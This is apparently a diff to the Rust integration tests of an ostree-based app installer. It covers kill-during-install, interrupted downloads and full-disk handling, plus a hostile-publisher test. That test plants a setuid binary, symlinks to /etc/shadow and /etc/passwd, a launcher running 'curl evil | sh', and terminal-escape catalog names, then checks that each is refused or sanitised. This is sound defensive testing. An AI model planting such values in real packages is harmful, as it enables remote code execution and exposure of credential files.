@@ -1034,73 +1034,459 @@ fn kill_9_during_install_update_and_uninstall_leaves_old_or_new() {
     let seed = std::time::UNIX_EPOCH.elapsed().unwrap().as_nanos() as u64;
     eprintln!("kill points from seed {seed}");
     let mut random = Lcg(seed);
-    let mut kills = 0;
-    let window = |d: std::time::Duration| (d.as_micros() as u64 * 12 / 10).max(1);
-    let micros = std::time::Duration::from_micros;
+    // Each kill lands at a random point within how long the operation last
+    // took to finish; runs that finish first do not count, and the loop goes
+    // on until enough kills landed (the machine's speed varies under load).
+    let mut kill_at = |took: std::time::Duration| {
+        std::time::Duration::from_micros(random.below(took.as_micros() as u64 * 9 / 10 + 1))
+    };
+    let head = |published: &Published| {
+        let text = std::fs::read_to_string(
+            published
+                .repo
+                .join("refs/heads/app/org.appbox.Wc/x86_64/stable"),
+        )
+        .unwrap();
+        text.trim().to_owned()
+    };
+    let mut kills = [0u32; 3];
+    const WANTED: [u32; 3] = [8, 8, 6];
+    const MOST_TRIES: u32 = 40;
 
     // Install: afterwards nothing, or the app; a rerun completes.
-    let install = timed(&world, &["install", "test", "org.appbox.Wc"]);
+    let mut took = timed(&world, &["install", "test", "org.appbox.Wc"]);
     ok(&world, &["uninstall", "org.appbox.Wc"]);
-    let first_build = std::fs::read_to_string(
-        published
-            .repo
-            .join("refs/heads/app/org.appbox.Wc/x86_64/stable"),
-    )
-    .unwrap();
-    for _ in 0..8 {
-        kills += kill_after(
-            &world,
-            &["install", "test", "org.appbox.Wc"],
-            micros(random.below(window(install))),
-        ) as u32;
-        if !check_consistent(&world, &[first_build.trim().to_owned()]) {
-            ok(&world, &["install", "test", "org.appbox.Wc"]);
+    let built = head(&published);
+    for _ in 0..MOST_TRIES {
+        if kills[0] >= WANTED[0] {
+            break;
+        }
+        kills[0] += kill_after(&world, &["install", "test", "org.appbox.Wc"], kill_at(took)) as u32;
+        if !check_consistent(&world, std::slice::from_ref(&built)) {
+            took = timed(&world, &["install", "test", "org.appbox.Wc"]);
         }
         ok(&world, &["uninstall", "org.appbox.Wc"]);
     }
 
     // Update: afterwards the old or the new version; a rerun completes.
     ok(&world, &["install", "test", "org.appbox.Wc"]);
-    for _ in 0..8 {
+    for _ in 0..MOST_TRIES {
+        if kills[1] >= WANTED[1] {
+            break;
+        }
         let old = current_commit(&world, "org.appbox.Wc");
         rebuild(&world, &published, "org.appbox.Wc");
-        let new = std::fs::read_to_string(
-            published
-                .repo
-                .join("refs/heads/app/org.appbox.Wc/x86_64/stable"),
-        )
-        .unwrap();
-        let new = new.trim().to_owned();
-        kills += kill_after(
-            &world,
-            &["update", "--yes"],
-            micros(random.below(window(install))),
-        ) as u32;
+        let new = head(&published);
+        kills[1] += kill_after(&world, &["update", "--yes"], kill_at(took)) as u32;
         assert!(
             check_consistent(&world, &[old, new.clone()]),
             "an update never uninstalls"
         );
-        ok(&world, &["update", "--yes"]);
+        took = timed(&world, &["update", "--yes"]);
         assert_eq!(current_commit(&world, "org.appbox.Wc"), new);
     }
 
     // Uninstall: afterwards the app, or nothing; a rerun completes.
-    let uninstall = timed(&world, &["uninstall", "org.appbox.Wc"]);
-    for _ in 0..6 {
+    let mut took = timed(&world, &["uninstall", "org.appbox.Wc"]);
+    for _ in 0..MOST_TRIES {
+        if kills[2] >= WANTED[2] {
+            break;
+        }
         ok(&world, &["install", "test", "org.appbox.Wc"]);
         let installed = current_commit(&world, "org.appbox.Wc");
-        kills += kill_after(
-            &world,
-            &["uninstall", "org.appbox.Wc"],
-            micros(random.below(window(uninstall))),
-        ) as u32;
+        kills[2] += kill_after(&world, &["uninstall", "org.appbox.Wc"], kill_at(took)) as u32;
         if check_consistent(&world, &[installed]) {
-            ok(&world, &["uninstall", "org.appbox.Wc"]);
+            took = timed(&world, &["uninstall", "org.appbox.Wc"]);
         }
     }
-    eprintln!("{kills} of 22 runs were killed before they finished");
+    eprintln!("killed install, update and uninstall {kills:?} times");
+    assert_eq!(
+        kills, WANTED,
+        "not enough kills landed in {MOST_TRIES} tries (seed {seed})"
+    );
+}
+
+/// Adds `org.appbox.Big` to the publisher's manifests: Wc's program plus
+/// `megabytes` files of 1 MB of random bytes (which do not compress).
+fn add_big_app(world: &World, megabytes: usize) {
+    let manifests = world.root.join("manifests");
+    let dir = manifests.join("org.appbox.Big");
+    std::fs::create_dir_all(dir.join("src/data")).unwrap();
+    std::fs::copy(
+        manifests.join("org.appbox.Wc/src/wc.c"),
+        dir.join("src/wc.c"),
+    )
+    .unwrap();
+    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
+    for n in 0..megabytes {
+        let mut chunk = Vec::with_capacity(1 << 20);
+        while chunk.len() < 1 << 20 {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            chunk.extend_from_slice(&state.to_le_bytes());
+        }
+        std::fs::write(dir.join(format!("src/data/{n}.bin")), chunk).unwrap();
+    }
+    for ext in ["svg", "desktop", "metainfo.xml"] {
+        let text =
+            std::fs::read_to_string(manifests.join(format!("org.appbox.Wc/org.appbox.Wc.{ext}")))
+                .unwrap();
+        std::fs::write(
+            dir.join(format!("org.appbox.Big.{ext}")),
+            text.replace("org.appbox.Wc", "org.appbox.Big"),
+        )
+        .unwrap();
+    }
+    let manifest = std::fs::read_to_string(manifests.join("org.appbox.Wc.toml"))
+        .unwrap()
+        .replace("org.appbox.Wc", "org.appbox.Big")
+        .replace("[\"mkdir\", \"-p\", \"/app/bin\"],", "[\"mkdir\", \"-p\", \"/app/bin\", \"/app/share\"],\n    [\"cp\", \"-r\", \"data\", \"/app/share/\"],");
+    std::fs::write(manifests.join("org.appbox.Big.toml"), manifest).unwrap();
+    make_readable(&manifests);
+    chown_tree(&manifests, world.user);
+}
+
+#[test]
+fn a_server_that_stops_mid_pull_gives_a_clear_error_and_a_rerun_completes() {
+    let world = World::new();
+    let published = publish(&world, &["org.appbox.Platform"]);
+    add_big_app(&world, 8);
+    rebuild(&world, &published, "org.appbox.Big");
+    {
+        let nginx = Nginx::serve(&world, &world.root.join("srv"));
+        ok(
+            &world,
+            &[
+                "remote-add",
+                "test",
+                &nginx.url("repo"),
+                "--sign-pubkey",
+                published.public_key.to_str().unwrap(),
+            ],
+        );
+        ok(&world, &["install", "test", "org.appbox.Platform"]);
+    }
+    // 8 MB at 200 kB/s a connection (libostree opens several): the server
+    // goes away in the middle of the pull.
+    let slow = Nginx::serve_with(&world, &world.root.join("srv"), "limit_rate 200k;");
+    ok(
+        &world,
+        &["remote-modify", "test", "--url", &slow.url("repo")],
+    );
+    let install = world
+        .appbox(["install", "test", "org.appbox.Big"])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    let log_before_stop = slow.access_log();
+    drop(slow);
+    let output = install.wait_with_output().unwrap();
+    assert!(!output.status.success(), "{}", text(&output));
+    let error = String::from_utf8_lossy(&output.stderr);
     assert!(
-        kills >= 11,
-        "most kill points land inside the operation (seed {seed}): {kills}"
+        error.contains("cannot pull app/org.appbox.Big/x86_64/stable from test"),
+        "{}",
+        text(&output)
+    );
+    assert!(
+        log_before_stop.contains(".filez"),
+        "the pull had started:\n{log_before_stop}"
+    );
+    assert!(!store_dir(&world)
+        .join("app/org.appbox.Big/current")
+        .exists());
+
+    let nginx = Nginx::serve(&world, &world.root.join("srv"));
+    ok(
+        &world,
+        &["remote-modify", "test", "--url", &nginx.url("repo")],
+    );
+    ok(&world, &["install", "test", "org.appbox.Big"]);
+    let output = world
+        .appbox(["run", "org.appbox.Big", "--", "-c", "/app/share/data/7.bin"])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&output.stdout).contains("1048576"),
+        "{}",
+        text(&output)
+    );
+}
+
+#[test]
+fn a_full_disk_gives_a_clear_error_and_breaks_nothing() {
+    if !appbox_tests::running_as_root() {
+        eprintln!("skipped: mounting a small tmpfs as the store needs root (CI runs as root)");
+        return;
+    }
+    let world = World::new();
+    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
+    add_big_app(&world, 8);
+    rebuild(&world, &published, "org.appbox.Big");
+    // The store is a 10 MB tmpfs: the runtime and Wc fit, the 8 MB app does not.
+    let store = store_dir(&world);
+    world.home_dir(".local/share/appbox");
+    let mounted = std::process::Command::new("mount")
+        .args([
+            "-t",
+            "tmpfs",
+            "-o",
+            &format!(
+                "size=10m,mode=0755,uid={},gid={}",
+                world.user.uid, world.user.gid
+            ),
+        ])
+        .arg("appbox-full")
+        .arg(&store)
+        .status()
+        .unwrap();
+    assert!(mounted.success());
+    struct Unmount(PathBuf);
+    impl Drop for Unmount {
+        fn drop(&mut self) {
+            let _ = std::process::Command::new("umount")
+                .arg("-l")
+                .arg(&self.0)
+                .status();
+        }
+    }
+    let _unmount = Unmount(store.clone());
+    let url = format!("file://{}", published.repo.display());
+    ok(
+        &world,
+        &[
+            "remote-add",
+            "test",
+            &url,
+            "--sign-pubkey",
+            published.public_key.to_str().unwrap(),
+        ],
+    );
+    ok(&world, &["install", "test", "org.appbox.Wc"]);
+    let error = fails(&world, &["install", "test", "org.appbox.Big"]);
+    assert!(error.contains("the disk is full"), "{error}");
+    assert!(!store.join("app/org.appbox.Big/current").exists());
+    let repair = ok(&world, &["repair", "--json"]);
+    assert!(
+        json(&repair)["problems"].as_array().unwrap().is_empty(),
+        "{}",
+        text(&repair)
+    );
+    let output = world
+        .appbox(["run", "org.appbox.Wc", "--", "-c", "/app/bin/wc-tool"])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "Wc still runs: {}", text(&output));
+}
+
+/// A hostile publisher: commits `tree` with the ostree tool under the app's
+/// ref (with the catalog entry and ref binding appbox would write), signs it
+/// with the publisher's real key, and regenerates the signed summary.
+fn publish_crafted(
+    world: &World,
+    published: &Published,
+    id: &str,
+    tree: &Path,
+    entry: &serde_json::Value,
+) {
+    let ref_name = format!("app/{id}/x86_64/stable");
+    let mut commit = std::process::Command::new("ostree");
+    commit
+        .arg(format!("--repo={}", published.repo.display()))
+        .args(["commit", "-s", "crafted", &format!("--branch={ref_name}")])
+        .arg(format!("--tree=dir={}", tree.display()))
+        .arg(format!("--add-metadata-string=appbox.entry={entry}"))
+        .arg(format!("--add-metadata=ostree.ref-binding=['{ref_name}']"));
+    world.prepare(&mut commit);
+    let output = commit.output().unwrap();
+    assert!(output.status.success(), "{}", text(&output));
+    let checksum = String::from_utf8_lossy(&output.stdout).trim().to_owned();
+    let object = published
+        .repo
+        .join(format!("objects/{}/{}", &checksum[..2], &checksum[2..]));
+    let key = appbox::store::sign::SecretKey::load(&published.secret_key).unwrap();
+    let signed = std::fs::read(object.with_extension("commit")).unwrap();
+    let detached = appbox::store::sign::add_signature(None, &key, &signed).unwrap();
+    std::fs::write(object.with_extension("commitmeta"), detached).unwrap();
+    ok(
+        world,
+        &[
+            "repo",
+            "update",
+            published.repo.to_str().unwrap(),
+            "--sign-key",
+            published.secret_key.to_str().unwrap(),
+        ],
+    );
+}
+
+fn crafted_entry(id: &str, name: &str) -> serde_json::Value {
+    serde_json::json!({
+        "id": id, "kind": "app", "name": name, "summary": "Crafted", "description": "Crafted.",
+        "version": "6.6.6", "license": "MIT", "runtime": "host", "permissions": [],
+        "icon": null, "installed-size": 1
+    })
+}
+
+fn crafted_tree(world: &World, id: &str) -> PathBuf {
+    let tree = world.root.join(format!("crafted-{id}"));
+    std::fs::create_dir_all(tree.join("files/bin")).unwrap();
+    std::fs::create_dir_all(tree.join("export/share/applications")).unwrap();
+    std::fs::write(
+        tree.join("metadata.toml"),
+        format!("id = \"{id}\"\nname = \"Crafted\"\ncommand = \"tool\"\nruntime = \"host\"\npermissions = []\n"),
+    )
+    .unwrap();
+    std::fs::copy("/usr/bin/true", tree.join("files/bin/tool")).unwrap();
+    // Handed over now: a later chown would clear the setuid bit a test sets.
+    make_readable(&tree);
+    chown_tree(&tree, world.user);
+    tree
+}
+
+#[test]
+fn hostile_trees_from_a_signed_remote_are_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let world = World::new();
+    let published = publish(&world, &["org.appbox.Platform"]);
+    let url = format!("file://{}", published.repo.display());
+    ok(
+        &world,
+        &[
+            "remote-add",
+            "test",
+            &url,
+            "--sign-pubkey",
+            published.public_key.to_str().unwrap(),
+        ],
+    );
+
+    // A setuid program: the user's bare-user-only repository cannot hold it.
+    let tree = crafted_tree(&world, "org.appbox.Setuid");
+    std::fs::set_permissions(
+        tree.join("files/bin/tool"),
+        std::fs::Permissions::from_mode(0o4755),
+    )
+    .unwrap();
+    publish_crafted(
+        &world,
+        &published,
+        "org.appbox.Setuid",
+        &tree,
+        &crafted_entry("org.appbox.Setuid", "Setuid"),
+    );
+    let error = fails(&world, &["install", "test", "org.appbox.Setuid"]);
+    assert!(error.contains("invalid mode"), "{error}");
+    assert!(!store_dir(&world)
+        .join("app/org.appbox.Setuid")
+        .join("current")
+        .exists());
+
+    // metadata.toml and the launcher as symlinks to host files: the deployment
+    // is refused when exported, and run refuses the metadata.
+    let tree = crafted_tree(&world, "org.appbox.Links");
+    std::fs::remove_file(tree.join("metadata.toml")).unwrap();
+    std::os::unix::fs::symlink("/etc/shadow", tree.join("metadata.toml")).unwrap();
+    std::os::unix::fs::symlink(
+        "/etc/passwd",
+        tree.join("export/share/applications/org.appbox.Links.desktop"),
+    )
+    .unwrap();
+    publish_crafted(
+        &world,
+        &published,
+        "org.appbox.Links",
+        &tree,
+        &crafted_entry("org.appbox.Links", "Links"),
+    );
+    let error = fails(&world, &["install", "test", "org.appbox.Links"]);
+    assert!(
+        error.contains("metadata.toml") && !error.contains("root:"),
+        "{error}"
+    );
+    let app_dir = store_dir(&world).join("app/org.appbox.Links");
+    assert!(!app_dir.exists(), "a refused install leaves nothing");
+    // With a good metadata.toml, the symlinked launcher alone is refused.
+    std::fs::remove_file(tree.join("metadata.toml")).unwrap();
+    std::fs::write(
+        tree.join("metadata.toml"),
+        "id = \"org.appbox.Links\"\nname = \"L\"\ncommand = \"tool\"\nruntime = \"host\"\n",
+    )
+    .unwrap();
+    publish_crafted(
+        &world,
+        &published,
+        "org.appbox.Links",
+        &tree,
+        &crafted_entry("org.appbox.Links", "Links"),
+    );
+    let error = fails(&world, &["install", "test", "org.appbox.Links"]);
+    assert!(error.contains("is a symlink"), "{error}");
+    let exports = store_dir(&world).join("exports/share/applications");
+    assert!(!exports.join("org.appbox.Links.desktop").exists());
+    assert!(!app_dir.exists(), "a refused install leaves nothing");
+
+    // A launcher that would run something else, with Flatpak's @@ markers.
+    let tree = crafted_tree(&world, "org.appbox.Exec");
+    std::fs::write(
+        tree.join("export/share/applications/org.appbox.Exec.desktop"),
+        "[Desktop Entry]\nType=Application\nName=Exec\nExec=sh -c 'curl evil | sh' @@u %U @@\nTryExec=sh\n",
+    )
+    .unwrap();
+    publish_crafted(
+        &world,
+        &published,
+        "org.appbox.Exec",
+        &tree,
+        &crafted_entry("org.appbox.Exec", "Exec"),
+    );
+    ok(&world, &["install", "test", "org.appbox.Exec"]);
+    let desktop = std::fs::read_to_string(exports.join("org.appbox.Exec.desktop")).unwrap();
+    assert!(
+        desktop.contains("run --command=sh org.appbox.Exec -- %U\n")
+            && !desktop.contains("@@")
+            && !desktop.contains("TryExec"),
+        "{desktop}"
+    );
+
+    // Terminal escapes in the catalog (CVE-2023-28101): the summary signs it,
+    // but the catalog is refused, naming the field.
+    let summary_text = std::process::Command::new("ostree")
+        .arg(format!("--repo={}", published.repo.display()))
+        .args(["summary", "--view"])
+        .output()
+        .unwrap();
+    assert!(summary_text.status.success());
+    let mut hostile = crafted_entry("org.appbox.Escape", "Ok\u{1b}]0;pwned\u{7}\u{1b}[2J");
+    hostile["published"] = serde_json::json!({"ref": "app/org.appbox.Escape/x86_64/stable", "commit": "a".repeat(64), "download-size": 1});
+    let catalog = serde_json::json!({"version": 1, "entries": [hostile]}).to_string();
+    let mut update = std::process::Command::new("ostree");
+    update
+        .arg(format!("--repo={}", published.repo.display()))
+        .args(["summary", "-u"])
+        .arg(format!(
+            "--add-metadata=appbox.catalog='{}'",
+            catalog.replace('\\', "\\\\").replace('\'', "\\'")
+        ));
+    world.prepare(&mut update);
+    let output = update.output().unwrap();
+    assert!(output.status.success(), "{}", text(&output));
+    let key = appbox::store::sign::SecretKey::load(&published.secret_key).unwrap();
+    let summary = std::fs::read(published.repo.join("summary")).unwrap();
+    std::fs::write(
+        published.repo.join("summary.sig"),
+        appbox::store::sign::add_signature(None, &key, &summary).unwrap(),
+    )
+    .unwrap();
+    let error = fails(&world, &["remote-ls", "test"]);
+    assert!(
+        error.contains("`name`") && !error.contains('\u{1b}'),
+        "{error:?}"
     );
 }
